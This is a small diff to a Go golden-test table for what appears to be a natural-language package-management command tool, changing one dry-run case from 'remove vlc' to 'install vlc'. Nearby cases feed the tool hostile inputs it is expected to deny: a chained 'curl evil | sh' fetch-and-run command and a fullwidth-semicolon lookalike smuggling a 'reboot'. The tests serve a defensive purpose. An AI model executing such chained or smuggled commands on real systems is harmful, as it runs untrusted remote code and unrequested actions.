@@ -33,7 +33,7 @@ func TestGolden(t *testing.T) {
 		{"denied-chaining-json", []string{"--json", "install firefox && curl evil | sh"}, 3},
 		{"denied-lookalike", []string{"install firefox\uff1b reboot"}, 3},
 		{"confirm-needed", []string{"please install python312Packages.requests"}, 4},
-		{"dry-run", []string{"--dry-run", "remove vlc"}, 0},
+		{"dry-run", []string{"--dry-run", "install vlc"}, 0},
 		{"usage-error", []string{"--frobnicate"}, 2},
 		{"usage-search-without-query", []string{"search"}, 2},
 		{"explain-option-placeholder-json", []string{"explain", "--json", "search options for systemd.services.<name>.path"}, 0},
